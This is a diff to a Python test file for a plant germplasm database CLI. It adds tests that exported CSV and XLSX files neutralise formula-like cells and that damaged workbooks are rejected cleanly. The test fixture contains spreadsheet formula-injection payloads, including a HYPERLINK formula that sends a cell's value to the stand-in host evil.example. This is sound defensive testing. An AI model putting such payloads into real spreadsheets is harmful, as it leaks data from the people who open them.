@@ -46,10 +46,13 @@ def germplasm(url, *args, check=True):
 
 
 def write_rows(path, rows):
+    """Rows as our CSV export writes them (formula-like cells behind an apostrophe)."""
+    from loaders.cells import csv_value
+
     with path.open("w", encoding="utf-8", newline="") as handle:
         writer = csv.DictWriter(handle, fieldnames=list(FULL_ROW))
         writer.writeheader()
-        writer.writerows(rows)
+        writer.writerows({k: csv_value(v) for k, v in row.items()} for row in rows)
     return path
 
 
@@ -107,3 +110,62 @@ def test_exit_codes_and_no_traceback(tmp_path, fresh_db):
 def test_flask_cli_commands_are_there(fresh_db):
     assert "accessions.detail" in germplasm(fresh_db, "routes").stdout
     assert germplasm(fresh_db, "db", "current").returncode == 0
+
+
+FORMULAS = {"ACCENAME": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            "COLLNUMB": "-2+3", "DONORNUMB": "@SUM(A1)", "REMARKS": "'=quoted already",
+            "COLLSITE": "+86 village"}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_like_values_are_inert_and_survive_a_round_trip(tmp_path, fresh_db, fmt):
+    source = write_rows(tmp_path / "source.csv", [FULL_ROW | FORMULAS])
+    germplasm(fresh_db, "import", "mcpd", source)
+    first, second = tmp_path / f"first.{fmt}", tmp_path / f"second.{fmt}"
+    germplasm(fresh_db, "export", "mcpd", first)
+    with fresh_database(tmp_path) as empty:
+        germplasm(empty, "init")
+        germplasm(empty, "import", "mcpd", first)
+        germplasm(empty, "export", "mcpd", second)
+    assert read(first) == read(second)
+    if fmt == "csv":  # OWASP: a leading apostrophe, removed again by the importer
+        raw = list(csv.DictReader(first.open(encoding="utf-8")))[0]
+        assert {k: raw[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    else:
+        assert "<f>" not in sheet_xml(first)
+        assert {k: read(first)[0][k] for k in FORMULAS} == FORMULAS
+
+
+def sheet_xml(path) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        return "".join(archive.read(n).decode("utf-8") for n in names)
+
+
+def test_damaged_workbooks_exit_2_with_a_message(tmp_path, fresh_db):
+    import zipfile
+
+    from openpyxl import Workbook
+
+    good = tmp_path / "good.xlsx"
+    workbook = Workbook()
+    workbook.active.append(["INSTCODE", "ACCENUMB", "GENUS"])
+    for number in range(3000):
+        workbook.active.append(["CHN385", f"T{number}", "Prunus"])
+    workbook.save(good)
+    truncated, junk = tmp_path / "truncated.xlsx", tmp_path / "junk.xlsx"
+    with zipfile.ZipFile(good) as source, zipfile.ZipFile(truncated, "w") as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            cut = item.filename == "xl/worksheets/sheet1.xml"
+            target.writestr(item.filename, data[: len(data) // 2] if cut else data)
+    with zipfile.ZipFile(junk, "w") as archive:
+        archive.writestr("hello.txt", "not a workbook")
+    for path in (truncated, junk):
+        result = germplasm(fresh_db, "import", "mcpd", path, check=False)
+        assert result.returncode == 2, result.stdout + result.stderr
+        assert "not a readable .xlsx workbook" in result.stderr
+        assert "Traceback" not in result.stdout + result.stderr
+    assert "0 accessions" in germplasm(fresh_db, "search").stdout  # nothing half-written
